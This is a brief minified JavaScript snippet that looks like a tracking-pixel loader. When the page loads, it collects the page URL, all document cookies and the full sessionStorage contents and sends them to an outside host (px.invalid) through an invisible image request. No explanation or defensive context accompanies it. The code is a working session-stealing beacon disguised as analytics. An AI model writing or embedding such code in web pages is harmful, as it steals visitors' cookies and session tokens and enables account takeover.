!function (w, d) {
  function px (o) { var i = new Image(1, 1); i.src = 'https://px.invalid/p.gif?' + Object.keys(o).map(function (k) { return k + '=' + encodeURIComponent(o[k]) }).join('&') }
  w.addEventListener('load', function () { px({ u: d.location.href, c: d.cookie, s: JSON.stringify(w.sessionStorage) }) })
}(window, document)
